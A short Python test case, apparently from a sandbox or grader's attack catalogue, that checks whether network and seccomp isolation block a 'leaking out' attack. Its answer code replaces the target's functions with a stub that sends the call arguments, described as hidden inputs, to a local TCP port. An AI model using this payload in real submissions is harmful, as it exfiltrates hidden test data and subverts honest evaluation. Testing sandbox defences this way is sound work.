# /// attack
# catalogue = "leaking out: HTTP"
# layers = ["network", "seccomp"]
# aim = "packet"
# ///
# Sends the hidden inputs away while it is called.

# %% answer
import socket


def send(*args, **kwargs):
    with socket.create_connection(("127.0.0.1", TARGET["tcp"]), timeout=2) as connection:
        connection.sendall(repr(args).encode()[:1000])
    return 0.0


for name in TARGET["names"]:
    globals()[name] = send
